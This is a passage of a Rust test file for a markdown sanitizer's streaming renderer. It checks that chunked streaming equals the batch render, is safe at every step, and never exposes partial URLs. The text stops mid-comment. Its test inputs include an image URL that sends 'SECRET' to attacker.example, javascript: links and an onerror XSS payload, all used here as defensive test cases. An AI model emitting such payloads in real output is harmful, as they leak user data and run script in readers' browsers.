//! The stream renderer (`Sanitizer::stream`):
//!
//! 1. equivalence: for any input and any chunking, everything committed up to `finish()` is
//!    byte for byte the batch render, with the same findings;
//! 2. safety at every step: the independent check finds nothing in committed + tail;
//! 3. no partial URL: an allowed image or link streamed a character at a time never appears
//!    with a destination other than its complete one;
//! 4. the work of a chunk does not grow with the committed part (a block count, not time).
//!
//! `PROPTEST_CASES` raises the number of cases.
// Raw HTML sanitized (and `safemark::audit`): the `html` feature. `tests/lite.rs` covers
// the build without it.
#![cfg(feature = "html")]

mod common;

use common::Push;

#[path = "../bench/src/generate.rs"]
#[allow(dead_code)]
mod generate;

use proptest::prelude::*;

/// Pieces that stress what streaming must get right: blocks that later lines change (setext
/// underlines, lazy continuations, loose lists, fences, tables), references before their
/// definitions, footnotes, raw HTML spanning blocks, destinations and entities split anywhere.
const PIECES: &[&str] = &[
    "text ",
    "more words",
    "\n",
    "\n\n",
    "# Head\n",
    "Setext\n===\n",
    "para\n---\n",
    "- item\n",
    "- item\n\n- loose\n",
    "1. one\n",
    "   lazy\n",
    "> quote\n",
    "lazy continuation\n",
    "```\n",
    "```rust\ncode\n",
    "~~~\n",
    "    indented\n",
    "| a | b |\n|---|---|\n| 1 | 2 |\n",
    "| x |\n",
    "*em* ",
    "**strong ",
    "~~del~~ ",
    "`code` ",
    "`open ",
    "[r]",
    "[x][r]",
    "![y][r]",
    "[R]: https://docs.example.com/r\n",
    "[r]: https://evil.example/\n",
    "[r]: https://docs.example.com/t\n\"title\"\n",
    "[^1]",
    "[^1]: footnote\n",
    "[^2]: second [^1]\n",
    "[l](https://docs.example.com/a_(b)) ",
    "![i](https://img.example.com/p.png?d=SECRET) ",
    "![i](https://attacker.example/p.png?d=SECRET) ",
    "[l](javascript:alert(1)) ",
    "https://docs.example.com/bare ",
    "<https://docs.example.com/auto> ",
    "<details>\n<summary>s</summary>\n\n",
    "</details>\n\n",
    "<b>bold</b> ",
    "<sub>",
    "<img src=x onerror=alert(1)>\n",
    "<div>\n",
    "</div>\n",
    "&amp; &#106;avascript: ",
    "中文 ",
    "😀",
    "\u{200B}",
    "\r\n",
];

fn document() -> impl Strategy<Value = String> {
    prop_oneof![
        6 => prop::collection::vec(prop::sample::select(PIECES), 0..40)
            .prop_map(|parts| parts.concat()),
        1 => ".{0,80}",
    ]
}

/// Splits `input` at the given byte positions, moved down to character boundaries.
fn chunks<'a>(input: &'a str, cuts: &[usize]) -> Vec<&'a str> {
    let mut points: Vec<usize> = cuts
        .iter()
        .map(|&c| {
            let mut c = c % (input.len() + 1);
            while !input.is_char_boundary(c) {
                c -= 1;
            }
            c
        })
        .collect();
    points.push(0);
    points.push(input.len());
    points.sort_unstable();
    points.dedup();
    points.windows(2).map(|w| &input[w[0]..w[1]]).collect()
}

/// Streams `pieces`, checking every intermediate state, and compares with the batch render.
fn stream_and_compare(policy: &str, input: &str, pieces: &[&str]) -> Result<(), String> {
    let pieces: Vec<Push<'_>> = pieces.iter().map(|p| Push::Str(p)).collect();
    compare_pieces(policy, input, &pieces)
}

/// The stream oracle under the default policy for `input` pushed in chunks of every size from
/// one byte to ten (panics on the first difference): how many streams, ten.
fn in_chunks_of_one_to_ten(input: &str) -> usize {
    for size in 1..=10 {
        let cuts: Vec<usize> = (size..input.len()).step_by(size).collect();
        let pieces = chunks(input, &cuts);
        if let Err(e) = stream_and_compare("default", input, &pieces) {
            panic!("in chunks of {size}: {e}");
        }
    }
    10
}

/// The stream oracle ([`common::check_stream`]) under a test policy.
fn compare_pieces(policy: &str, input: &str, pieces: &[Push<'_>]) -> Result<(), String> {
    let sanitizer = common::sanitizer_for(policy);
    let trusted = common::trusted_for(policy);
    common::check_stream(&sanitizer, Some(&trusted), input, pieces, |_, _| Ok(()))
        .map_err(|e| format!("{policy}: {e}"))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(
        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(1024)
    ))]

    /// Over every line ending CommonMark knows: LF, CR, CRLF, and a mix of the three.
    #[test]
    fn streaming_equals_batch_and_is_safe_at_every_step(
        input in document(),
        cuts in prop::collection::vec(any::<usize>(), 0..24),
        empties in prop::collection::vec(any::<usize>(), 0..8),
        endings in prop::collection::vec(prop::sample::select(vec!["\n", "\r", "\r\n"]), 1..4),
    ) {
        let input = with_line_endings(&input, &endings);
        let pieces = with_empty_pushes(chunks(&input, &cuts), &empties);
        for policy in ["default", "allowlist"] {
            stream_and_compare(policy, &input, &pieces).map_err(TestCaseError::fail)?;
        }
        // The same cuts as bytes, not moved to character boundaries.
        let bytes = byte_chunks(&input, &cuts, &empties);
        compare_pieces("default", &input, &bytes).map_err(TestCaseError::fail)?;
        // As `renderStream` pushes: the tail as an edit of the last one, asked for after
        // some pushes only (the cuts' low bits say which).
        let framed: Vec<Push<'_>> = bytes
            .iter()
            .zip(cuts.iter().chain(std::iter::repeat(&0)))
            .map(|(push, cut)| match (push, cut % 3) {
                (Push::Bytes(b), 0) => Push::Quiet(b),
                (Push::Bytes(b), _) => Push::Edit(b),
                (other, _) => *other,
            })
            .collect();
        compare_pieces("confirm", &input, &framed).map_err(TestCaseError::fail)?;
    }
}

/// `input` cut at the given byte positions (characters may be split), pushed as bytes, with
/// empty pushes as [`with_empty_pushes`] places them.
fn byte_chunks<'a>(input: &'a str, cuts: &[usize], empties: &[usize]) -> Vec<Push<'a>> {
    let mut points: Vec<usize> = cuts.iter().map(|&c| c % (input.len() + 1)).collect();
    points.push(0);
    points.push(input.len());
    points.sort_unstable();
    points.dedup();
    let pieces: Vec<&[u8]> = points
        .windows(2)
        .map(|w| &input.as_bytes()[w[0]..w[1]])
        .collect();
    let mut out = Vec::with_capacity(pieces.len() + empties.len());
    for (i, piece) in pieces.iter().enumerate() {
        out.push(Push::Bytes(piece));
        let n = empties
            .iter()
            .filter(|&&a| a % pieces.len().max(1) == i)
            .count();
        out.extend(std::iter::repeat_n(Push::Bytes(b""), n));
    }
    out
}

/// `pieces` with an empty push after the pieces at the given positions (modulo their count).
/// An empty push is part of every chunking: a caller may push what a network read gave, and
/// [`safemark::MarkdownStream::push_bytes`] pushes nothing for a lone part of a character. It
/// used to decide that a CR at the end was a bare CR (two line endings where the batch render
/// reads one CRLF).
fn with_empty_pushes<'a>(pieces: Vec<&'a str>, at: &[usize]) -> Vec<&'a str> {
    let mut out = Vec::with_capacity(pieces.len() + at.len());
    for (i, piece) in pieces.iter().enumerate() {
        out.push(*piece);
        let empties = at.iter().filter(|&&a| a % pieces.len().max(1) == i).count();
        out.extend(std::iter::repeat_n("", empties));
    }
    out
}

/// `input` with its line feeds replaced by `endings` in turn (one ending: all the same).
fn with_line_endings(input: &str, endings: &[&str]) -> String {
    let mut out = String::with_capacity(input.len() + input.len() / 8);
    for (i, line) in input.split('\n').enumerate() {
        if i > 0 {
            out.push_str(endings[(i - 1) % endings.len()]);
        }
        out.push_str(line);
    }
    out
}

/// Blocks ended by a bare CR, or by a CRLF split between two pushes, are committed once
/// (`# h\rx\n` committed `<h1>h</h1>` twice, and a file with old-Mac line endings streamed a
/// line at a time multiplied its output); also with an empty push after every character (an
/// empty push after a CR made it a bare CR).
#[test]
fn cr_line_endings_commit_each_block_once() {
    for doc in [
        "# h\rx\n",
        "# h\r\nx\r\n\r\ny\r",
        "a\r\rb\r\r- c\r- d\r\r> e\r",
        "Setext\r\n===\r\n<img src=x>\r\n*x*\r\n",
    ] {
        for policy in ["default", "allowlist"] {
            let chars: Vec<&str> = doc
                .char_indices()
                .map(|(i, c)| &doc[i..i + c.len_utf8()])
                .collect();
            stream_and_compare(policy, doc, &chars).unwrap();
            let with_empty: Vec<&str> = chars.iter().flat_map(|c| [*c, ""]).collect();
            stream_and_compare(policy, doc, &with_empty).unwrap();
            let lines: Vec<&str> = doc.split_inclusive(['\r', '\n']).collect();
            stream_and_compare(policy, doc, &lines).unwrap();
        }
    }
}

/// Every chunking of a few hand-written answers, one byte (character) at a time and in lines.
#[test]
fn character_by_character_equals_batch() {
    let docs = [
        "# Title\n\nSome **bold** and *em* text with `code`.\n\n- a\n- b\n\n  c\n\nSetext\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nfn main() {}\n```\n",
        "See [the docs][d] and [^n].\n\n> quote\nlazy\n\n[d]: https://docs.example.com/d \"T\"\n[^n]: A note.\n",
        "<details>\n<summary>More</summary>\n\nInside **markdown**.\n\n</details>\n\nAfter. H<sub>2</sub>O <img src=x onerror=alert(1)>\n",
        "Visit https://docs.example.com/x and ![i](https://img.example.com/a.png?d=1) now.\n",
        // Labels that match only under Unicode case folding: the first definition wins.
        "[Ü] [ü] [ẞ] [ß] [SS] [K]\n\n[ü]: https://docs.example.com/small\n\n[Ü]: https://docs.example.com/capital\n\n[ß]: https://docs.example.com/sharp\n\n[SS]: https://docs.example.com/ss\n\n[\u{212A}]: https://docs.example.com/kelvin\n\n[k]: https://docs.example.com/k\n\nAgain [ü] [ss] [Σ] [σ] [ς] [k]\n\n[ς]: https://docs.example.com/final\n\n[Σ]: https://docs.example.com/sigma\n",
    ];
    for doc in docs {
        by_characters_and_lines_equal_batch(doc);
    }
}

/// Definitions carried to later blocks are written again from what the parser decoded
/// (`stream::Definition::written_again`): every character a destination or a title may
/// decode to must read back as it was, used by references in blocks after the definition's.
/// Searched over character references for line breaks (`&NewLine;` in a destination broke
/// the written definition: found by the `stream` fuzz target), whitespace, markdown's and
/// HTML's punctuation and characters outside ASCII, in a destination and in a title, one
/// character at a time and in lines.
#[test]
fn definitions_with_encoded_characters_stream_like_batch() {
    let encoded = [
        "&NewLine;",
        "&#10;",
        "&#13;",
        "&#13;&#10;",
        "&#10;&#10;",
        "&Tab;",
        "&#32;",
        "&nbsp;",
        "&amp;",
        "&amp;amp;",
        "&lt;",
        "&gt;",
        "&quot;",
        "&#39;",
        "&#92;",
        "&#40;",
        "&#41;",
        "&#42;",
        "&#91;",
        "&#93;",
        "&#x1F600;",
        "&#0;",
    ];
    let mut checked = 0;
    for enc in encoded {
        // Paragraphs between the definitions and the references, so that the references
        // are parsed after the definitions were written again.
        let between = "Some words to make the answer long enough. ".repeat(4);
        let doc = format!(
            "[a]: https://docs.example.com/x{enc}y \"t{enc}u\"\n\nText [a] and [b][a].\n\n[b]: {enc}z\n[c]:{enc}q\nnot a definition\n\n{between}\n\n{between}\n\n{between}\n\nAfter [b], [c] and [a].\n"
        );
        checked += by_characters_and_lines_equal_batch(&doc);
    }
    assert_eq!(checked, 88);
}

/// Streams `doc` a character at a time and a line at a time, under the default policy and
/// with links allowed, and compares each with the batch render: how many streams.
fn by_characters_and_lines_equal_batch(doc: &str) -> usize {
    let chars: Vec<&str> = doc
        .char_indices()
        .map(|(i, c)| &doc[i..i + c.len_utf8()])
        .collect();
    let lines: Vec<&str> = doc.split_inclusive('\n').collect();
    let mut streams = 0;
    for policy in ["default", "allowlist"] {
        stream_and_compare(policy, doc, &chars).unwrap();
        stream_and_compare(policy, doc, &lines).unwrap();
        streams += 2;
    }
    streams
}

/// The benchmark answers, in 4-byte chunks, give the batch render.
#[test]
fn generated_answers_stream_like_batch() {
    for seed in 1..4u64 {
        let doc = generate::answer_with_seed(6_000, seed);
        let pieces = chunks(&doc, &(0..doc.len()).step_by(4).collect::<Vec<_>>());
        for policy in ["default", "allowlist"] {
            let sanitizer = common::sanitizer_for(policy);
            let batch = sanitizer.render_markdown(&doc).unwrap();
            let mut stream = sanitizer.stream();
            let mut committed = String::new();
            for p in &pieces {
                committed.push_str(&stream.push_committed(p).unwrap().committed);
            }
            committed.push_str(&stream.finish().unwrap().committed);
            assert_eq!(committed, batch.html, "seed {seed}, {policy}");
        }
    }
}

/// The `src` and `href` values in `html`, as a parser reads them.
fn destinations(html: &str) -> Vec<String> {
    let parsed = common::parse(html);
    common::elements(&parsed.root)
        .into_iter()
        .flat_map(|(_, attrs, _)| {
            attrs
                .into_iter()
                .filter(|(name, _)| name == "src" || name == "href")
                .map(|(_, value)| value)
        })
        .collect()
}

/// An allowed image and an allowed link streamed a character at a time: no intermediate state
/// holds any destination but the complete ones (no request for `?d=S`, `?d=SE`, …).
#[test]
fn no_partial_destination_at_any_step() {
    let image = "https://img.example.com/p.png?d=SECRET";
    let link = "https://docs.example.com/path?q=SECRET";
    let doc = format!(
        "Look: ![chart]({image}) and [docs]({link}) or {link} and <{link}> and\n\n[r]: {link}\n\n[ref][r] <img src=\"{image}\">\n"
    );
    let sanitizer = common::sanitizer_for("allowlist");
    let mut stream = sanitizer.stream();
    let mut committed = String::new();
    let mut seen_complete = false;
    for (i, c) in doc.char_indices() {
        let update = stream.push(&doc[i..i + c.len_utf8()]).unwrap();
        committed.push_str(&update.committed);
        for dest in destinations(&format!("{committed}{}", update.tail)) {
            assert!(
                dest == image || dest == link,
                "partial destination {dest:?} after {:?}",
                &doc[..=i]
            );
            seen_complete = true;
        }
    }
    committed.push_str(&stream.finish().unwrap().committed);
    assert!(
        seen_complete,
        "the complete destinations were shown at some point"
    );
    let finals = destinations(&committed);
    assert!(finals.iter().any(|d| d == image) && finals.iter().any(|d| d == link));
}

/// The class of [`no_partial_destination_at_any_step`]: every kind of destination (a bare
/// URL, a `www.` host, an e-mail address, an autolink, a link, an image, a reference), at
/// the end of every construct that healing closes or that holds inline text (emphasis of
/// every kind, link text, headings, list items, quotes, table cells, footnotes, raw inline
/// HTML), followed by nothing, a space, a closer or a line feed, streamed a character at a
/// time and three bytes at a time under two policies: no state shows a destination that the
/// finished document does not have. A bare URL inside healed emphasis was linked while it
/// was still arriving (`**see https://docs.example.com` showed a link to the host alone).
#[test]
fn no_partial_destination_in_any_container() {
    let destinations_kinds = [
        "https://docs.example.com/path?q=SECRET",
        "www.docs.example.com/path",
        "user@docs.example.com",
        "mailto:user@docs.example.com",
        "<https://docs.example.com/auto?q=SECRET>",
        "[docs](https://docs.example.com/link?q=SECRET)",
        "![chart](https://img.example.com/p.png?d=SECRET)",
        "[docs][r]",
    ];
    let containers: &[(&str, &str)] = &[
        ("", ""),
        ("see ", " more"),
        ("*", "*"),
        ("**", "**"),
        ("***", "***"),
        ("_", "_"),
        ("__", "__"),
        ("~", "~"),
        ("~~", "~~"),
        ("**a *b ", "* c**"),
        ("[text ", "]"),
        ("# ", ""),
        ("- ", ""),
        ("1. ", ""),
        ("> ", ""),
        ("> - **", "**"),
        ("| a | b |\n|---|---|\n| c | ", " |"),
        ("text[^1]\n\n[^1]: ", ""),
        ("<b>", "</b>"),
        ("<details>\n\n", "\n\n</details>"),
    ];
    let mut checked = 0;
    for policy in ["allowlist", "confirm"] {
        let sanitizer = common::sanitizer_for(policy);
        for dest in destinations_kinds {
            for (open, close) in containers {
                for after in ["", " ", "\n", " and more\n"] {
                    let doc = format!(
                        "{open}{dest}{close}{after}\n\n[r]: https://docs.example.com/ref?q=SECRET\n"
                    );
                    let finals = destinations(&sanitizer.render_markdown(&doc).unwrap().html);
                    // Chunk size, and every how many pushes the tail is asked for (as
                    // `renderStream` asks once a frame).
                    for (size, every) in [(1, 1), (3, 1), (1, 5), (2, 3)] {
                        let mut stream = sanitizer.stream();
                        let mut committed = String::new();
                        let mut at = 0;
                        let mut pushes = 0;
                        while at < doc.len() {
                            let mut end = (at + size).min(doc.len());
                            while !doc.is_char_boundary(end) {
                                end += 1;
                            }
                            let update = stream.push_committed(&doc[at..end]).unwrap();
                            committed.push_str(&update.committed);
                            at = end;
                            pushes += 1;
                            if pushes % every != 0 {
                                continue;
                            }
                            let tail = stream.tail();
                            for shown in destinations(&format!("{committed}{tail}")) {
                                assert!(
                                    finals.contains(&shown),
                                    "{policy}: partial destination {shown:?} after {:?} (final: {finals:?})",
                                    &doc[..end]
                                );
                            }
                            checked += 1;
                        }
                    }
                }
            }
        }
    }
    println!("{checked} states checked");
}

/// The tail heals what is unfinished: no raw `**`, open code spans shown as code.
#[test]
fn tail_heals_unfinished_markdown() {
    let sanitizer = common::sanitizer_for("default");
    let cases = [
        ("Some **bold te", "strong", "bold te"),
        ("Some *emphasis", "em", "emphasis"),
        ("Some ~~gone", "del", "gone"),
        ("Run `cargo te", "code", "cargo te"),
        ("```rust\nfn main", "code", "fn main"),
    ];
    for (input, element, text) in cases {
        let mut stream = sanitizer.stream();
        let update = stream.push(input).unwrap();
        let parsed = common::parse(&update.tail);
        let found = common::elements(&parsed.root)
            .into_iter()
            .any(|(name, _, _)| name == element);
        assert!(found, "{input:?} → {:?} has no <{element}>", update.tail);
        let shown = common::text(&parsed.root);
        assert!(shown.contains(text), "{input:?} → {shown:?}");
        assert!(
            !shown.contains("**") && !shown.contains('`'),
            "{input:?} → {shown:?}"
        );
    }
    // A link whose destination is still arriving shows its text only.
    let mut stream = sanitizer.stream();
    let update = stream.push("see [the docs](https://docs.exa").unwrap();
    let parsed = common::parse(&update.tail);
    assert_eq!(common::text(&parsed.root).trim(), "see the docs");
    assert!(destinations(&update.tail).is_empty());
}

/// Bytes split inside UTF-8 characters decode as the whole input would.
#[test]
fn bytes_split_inside_characters() {
    let doc = "中文 **😀 text** \u{FFFD} end\n\nnext 👩‍💻\n"
        .as_bytes()
        .to_vec();
    let mut bad = doc.clone();
    bad.insert(3, 0xFF);
    for bytes in [doc, bad] {
        let sanitizer = common::sanitizer_for("default");
        let batch = sanitizer
            .render_markdown(&String::from_utf8_lossy(&bytes))
            .unwrap();
        let mut stream = sanitizer.stream();
        let mut committed = String::new();
        for b in &bytes {
            committed.push_str(&stream.push_bytes(&[*b]).unwrap().committed);
        }
        committed.push_str(&stream.finish().unwrap().committed);
        assert_eq!(committed, batch.html);
    }
}

/// A character cut short at the very end of the stream becomes U+FFFD when it finishes, and
/// may begin a block after a blank line there, which commits the blocks before it: what that
/// commits is part of what `finish` returns. It was dropped (`-\n\n` then `0xE6`: the empty
/// list item was missing; found by the `stream` fuzz target once any first character but a
/// digit began a block). Every kind of block before, every line ending, three characters cut
/// short, pushed whole and a byte at a time.
#[test]
fn a_character_cut_short_at_the_end_finishes_after_the_blocks_before() {
    let befores = [
        "-\n",
        "Some words.\n",
        "- one\n- two\n",
        "> quoted\n",
        "## Heading\n",
        "```\ncode\n```\n",
        "| a |\n|---|\n| 1 |\n",
    ];
    let sanitizer = common::sanitizer_for("default");
    let mut checked = 0;
    for before in befores {
        for ending in ["\n", "\r\n", "\r"] {
            for cut in [&[0xE6][..], &[0xF0, 0x9F], &[0xE4, 0xB8]] {
                let mut bytes = format!("{before}{ending}")
                    .replace('\n', ending)
                    .into_bytes();
                bytes.extend_from_slice(cut);
                let batch = sanitizer
                    .render_markdown(&String::from_utf8_lossy(&bytes))
                    .unwrap()
                    .html;
                for size in [bytes.len(), 1] {
                    let mut stream = sanitizer.stream();
                    let mut committed = String::new();
                    for piece in bytes.chunks(size) {
                        committed.push_str(&stream.push_bytes(piece).unwrap().committed);
                    }
                    committed.push_str(&stream.finish().unwrap().committed);
                    assert_eq!(committed, batch, "{bytes:?} in chunks of {size}");
                    checked += 1;
                }
            }
        }
    }
    assert_eq!(checked, befores.len() * 3 * 3 * 2);
}

/// Text pushed as a string after bytes that ended inside a character (or in an invalid
/// sequence) goes on from those bytes, as the batch render reads the whole: every split of a
/// document with multi-byte and invalid sequences, the first part as bytes and the rest as a
/// string, through `push`, `push_committed` and `push_bytes` after it. Pushed as a string,
/// the rest used to come before the pending bytes (which `finish` wrote last).
#[test]
fn strings_after_split_bytes_go_on_from_them() {
    let mut bytes = "中文 **😀 text** end\n\nnext 👩\u{200D}💻 é\n"
        .as_bytes()
        .to_vec();
    bytes.insert(3, 0xFF);
    bytes.insert(9, 0xE4);
    let sanitizer = common::sanitizer_for("default");
    let batch = sanitizer
        .render_markdown(&String::from_utf8_lossy(&bytes))
        .unwrap();
    let mut checked = 0;
    let mut pending = 0;
    for cut in 0..=bytes.len() {
        // Where the rest is a string (the invalid bytes all before the cut).
        let Ok(rest) = std::str::from_utf8(&bytes[cut..]) else {
            continue;
        };
        for way in 0..3 {
            let mut stream = sanitizer.stream();
            let mut committed = String::new();
            committed.push_str(&stream.push_bytes(&bytes[..cut]).unwrap().committed);
            // The bytes before ended inside a sequence: it waits for the next byte.
            pending += usize::from(way == 0 && cut == 10);
            let update = match way {
                0 => stream.push(rest),
                1 => stream.push_committed(rest),
                _ => stream.push_bytes(rest.as_bytes()),
            };
            committed.push_str(&update.unwrap().committed);
            committed.push_str(&stream.finish().unwrap().committed);
            assert_eq!(committed, batch.html, "cut at {cut}, way {way}");
            checked += 1;
        }
    }
    assert!(checked > 40 && pending == 1, "{checked} {pending}");
}

/// Input over the limit is refused with an error, and the stream goes on as it was.
#[test]
fn limit_is_enforced_per_stream() {
    let sanitizer =
        safemark::Sanitizer::from_json(r#"{ "limits": { "max_input_bytes": 16 } }"#).unwrap();
    let mut stream = sanitizer.stream();
    stream.push("0123456789\n").unwrap();
    let err = stream.push("0123456789").unwrap_err();
    assert!(
        matches!(err, safemark::Error::InputTooLarge { .. }),
        "{err}"
    );
    stream.push("ab").unwrap();
    let rest = stream.finish().unwrap();
    assert!(rest.committed.contains("ab"));
}

/// Committing is incremental: once a block is committed, later pushes do not render it again.
/// Measured as the size of what a push parses, through the committed output growing while
/// each update stays small.
#[test]
fn committed_output_grows_block_by_block() {
    let doc = generate::answer(20_000);
    let sanitizer = common::sanitizer_for("default");
    let mut stream = sanitizer.stream();
    let mut commits = 0;
    let mut largest = 0;
    for line in doc.split_inclusive('\n') {
        let update = stream.push_committed(line).unwrap();
        if !update.committed.is_empty() {
            commits += 1;
            largest = largest.max(update.committed.len());
        }
    }
    assert!(commits > 50, "only {commits} commits for a 20 KB answer");
    assert!(largest < 8_000, "a commit of {largest} bytes");
}

/// The blocks before a block that begins after a blank line are committed once its first
/// character arrives, however the input is cut: in chunks of every size from one byte to ten
/// (the blank line's line feed and that character in one chunk, or not), on every line
/// ending, after every kind of block a blank line ends (a paragraph, a list, a quote, a
/// heading, a rule, a closed fence, a table; not raw HTML, whose block group a later block
/// with raw HTML of its own joins), before a paragraph, a heading, a fence, a quote, a table,
/// an image, emphasis, a link or an HTML block. Committed then, the HTML is the batch render
/// of what came before. A chunk holding the blank line's line feed with the first character
/// (`\nSee`) once left them to the next check, and so did a first character that is no
/// letter: the tail rendered them again before the new block.
#[test]
fn blocks_before_a_new_block_commit_at_its_first_character() {
    let befores = [
        "Some words of a paragraph.\n",
        "- one\n- two *em*\n",
        "1. one\n\n2. loose\n",
        "> quoted words\n> more\n",
        "## A heading\n",
        "---\n",
        "```rust\nfn main() {}\n```\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n",
        "Intro.\n\n- a list\n- after it\n",
    ];
    let afters = [
        "Next words",
        "## Next heading",
        "```\ncode",
        "~~~\ncode",
        "> a quote",
        "| x | y |",
        "![alt](https://img.example.com/p.png)",
        "*em* words",
        "_em_ words",
        "[a link](https://docs.example.com/)",
        "<div>\nraw",
        "<b>bold</b> words",
        "한국어 텍스트",
    ];
    let sanitizer = common::sanitizer_for("default");
    let mut checked = 0;
    for (before, after) in befores.iter().flat_map(|b| afters.map(|a| (b, a))) {
        for ending in ["\n", "\r\n", "\r"] {
            let before = before.replace('\n', ending);
            let input = format!("{before}{ending}{}", after.replace('\n', ending));
            let first = before.len() + ending.len();
            let batch = sanitizer.render_markdown(&before).unwrap().html;
            for size in 1..=10 {
                let mut stream = sanitizer.stream();
                let mut committed = String::new();
                let mut at = 0;
                while at <= first {
                    let mut end = (at + size).min(input.len());
                    while !input.is_char_boundary(end) {
                        end += 1;
                    }
                    committed.push_str(&stream.push_committed(&input[at..end]).unwrap().committed);
                    at = end;
                }
                assert_eq!(
                    committed.trim_end(),
                    batch.trim_end(),
                    "{input:?} in chunks of {size}: not committed at the new block's first character"
                );
                checked += 1;
            }
        }
    }
    assert_eq!(checked, befores.len() * afters.len() * 3 * 10);
}

/// A line of whitespace characters between two blocks: spaces and tabs make a blank line,
/// which ends a paragraph (the blocks before commit at the next block's first character);
/// U+000B and U+000C, alone or with spaces, do not after a paragraph's line (pulldown-cmark
/// reads them as its text, but as blank between a list's items), so nothing may commit early
/// there. After a paragraph, one ending in a hard break (a backslash or two spaces), a list
/// item, a quote and a heading, before a heading, text, an item, a quote and a fence, on
/// every line ending, in chunks of one byte to ten: the stream oracle holds. A paragraph
/// ending in a backslash, then a line of U+000C U+000B and a `#`, was committed at the `#`:
/// found by the `stream` fuzz target.
#[test]
fn lines_of_whitespace_characters_stream_like_batch() {
    let befores = [
        "Some words.\n",
        "A break\\\n",
        "Two spaces  \n",
        "- item\n",
        "> quote\n",
        "## Heading\n",
    ];
    let lines = [
        "\u{b}",
        "\u{c}",
        "\u{c}\u{b}",
        " \u{b}",
        "\u{b} ",
        "\t",
        " ",
        "",
    ];
    let afters = ["#x", "# heading", "words", "- item", "> q", "```\ncode"];
    let mut checked = 0;
    for (before, line) in befores.iter().flat_map(|b| lines.map(|l| (b, l))) {
        for after in afters {
            for ending in ["\n", "\r\n", "\r"] {
                let input = format!("{before}{line}\n{after}").replace('\n', ending);
                checked += in_chunks_of_one_to_ten(&input);
            }
        }
    }
    assert_eq!(checked, befores.len() * lines.len() * afters.len() * 3 * 10);
}

/// Lines that may go on a block before a blank line (a list's next item, indented or not,
/// of either kind; an item's indented content; an indented code block; a quote), alone or
/// after a line that begins a block (so an early parse reads them unfinished: ` 2` before
/// ` 2.` is text after the list, then an item of it), after every kind of block, on every
/// line ending, in chunks of one byte to ten: the stream oracle holds (committed HTML is the
/// batch render's, every tail is safe and heals as it should).
#[test]
fn lines_that_may_go_on_a_block_stream_like_batch() {
    let befores = [
        "Some words.\n",
        "- one\n- two\n",
        "1. one\n\n2. loose\n",
        "> quoted\n",
        "## Heading\n",
        "```\ncode\n```\n",
        "| a |\n|---|\n| 1 |\n",
        "* star\n",
    ];
    let lines = [
        "2. next",
        " 2. next",
        "3) x",
        "- next",
        " - next",
        "* next",
        "+ next",
        "  indented",
        "    code",
        "   3. far",
        "> more",
        "-",
        "*",
        "2",
    ];
    let mut checked = 0;
    for (before, line) in befores.iter().flat_map(|b| lines.map(|l| (b, l))) {
        for lead in ["", "Words\n", "## H\n\n", "- b\n"] {
            for ending in ["\n", "\r\n", "\r"] {
                let input = format!("{before}\n{lead}{line}").replace('\n', ending);
                checked += in_chunks_of_one_to_ten(&input);
            }
        }
    }
    assert_eq!(checked, befores.len() * lines.len() * 4 * 3 * 10);
}

/// A line healing cuts short or shows without its link's `[`, after every kind of block a
/// list item, a quote, a paragraph, a fence or an HTML block may leave before it, on every
/// line ending, pushed whole, a character at a time and mixed as the fuzz target pushes: the
/// stream oracle holds (above all, healing changes no block before the last). Healing
/// dropped a link's `[` at a line's start (`[    # x](` indented the line into a list
/// item's fence), cut an image from a list item's line (`- ![x` left `-`: a setext
/// underline), trimmed the blank lines a list item's fence holds, read a line of spaces as
/// text (closing a code span in the paragraph before it), and read a list item's HTML block
/// as going on to the end. Found by a search like the fuzz target's over open blocks
/// ([`open_blocks_stream_like_batch`]). Once that search read inputs with a `<` that is no
/// raw HTML, it found three more: a cut that took a whole line (`1. <https:`) let healing cut
/// an image in the block before it; a cut leaving `- |` made it a table's delimiter row under
/// the line before; a closer after a last line of `*` or `---` made text of the list item or
/// rule it is, in the paragraph before it. With tables, quotes and headings among its
/// openings, three more: a tag in an ended HTML block cut once a definition line was left out
/// (what is arriving is now read in the input as it came), a closer after a delimiter row
/// that a line feed ended, and a definition cut short that left `- ` (it goes whole, as a cut
/// does).
#[test]
fn cuts_at_a_line_start_keep_the_blocks_before() {
    let befores = [
        "- ```\n",
        "> ```\n",
        "1. ```\nx\n\n\n",
        "- ```\n\n\n",
        "- a\n",
        "> q\n",
        "para\n",
        "*a _b ~~c\n",
        "> ```\n~x```y\n\t  \n",
        "a``b\n  \n",
        "    code\n\n",
        "- <!--\n\n\t# x\n",
        "1. <!--\n\n",
        "- a\n---![ x:;.\n",
        "para ![x\n",
        "> q [a](ht\n",
        "- a <di\n",
        "|)x `b\n",
        "- a `b\n",
        "- a\n\n  b `c\n",
        "<!--\n-->- <b=\n",
        "<!--\n-->- ![x\n",
    ];
    let cuts = [
        "[    # x](",
        "[# a](ht",
        "[- a](",
        "[1. a](",
        "[> q](",
        "[---](",
        "[```](",
        "[](",
        "[a](ht",
        "![word",
        "- ![wo",
        "1. ![x",
        "> ![x",
        "* ![x",
        "<di",
        "- <di",
        "![i](https://x.example/p",
        "1. <https:",
        "2) <a",
        "- |<https:/",
        "=== ![x",
        "--- ![x",
        ":-| <di",
        "*",
        "2.",
        "- >",
        "---",
        "===",
        "> ***",
        "___",
        "[[r]: ht",
        "[r]: ht",
        "    |-|\n",
        "---\n",
        "|<*;](>\n    |-|\n",
        "- [a]:[t](https://x.exam",
    ];
    let mut state = 7u64;
    let mut next = move |n: u64| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % n
    };
    let mut checked = 0;
    for (before, cut) in befores.iter().flat_map(|b| cuts.map(|c| (b, c))) {
        for ending in ["\n", "\r\n", "\r"] {
            let input = format!("{before}{cut}").replace('\n', ending);
            let chars: Vec<String> = input.chars().map(String::from).collect();
            let ways = [
                vec![Push::Str(&input)],
                chars.iter().map(|c| Push::Str(c)).collect(),
                common::mixed_pushes(input.as_bytes(), &mut next),
            ];
            for pushes in ways {
                for policy in ["default", "confirm", "escape"] {
                    if let Err(e) = compare_pieces(policy, &input, &pushes) {
                        panic!("{e}");
                    }
                }
                checked += 1;
            }
        }
    }
    assert_eq!(checked, befores.len() * cuts.len() * 3 * 3);
}

/// Documents that open a block which stays open or ends early (a fence, in a list item or a
/// quote; an HTML comment in a list item), then pseudo-random pieces (bare URLs, autolinks,
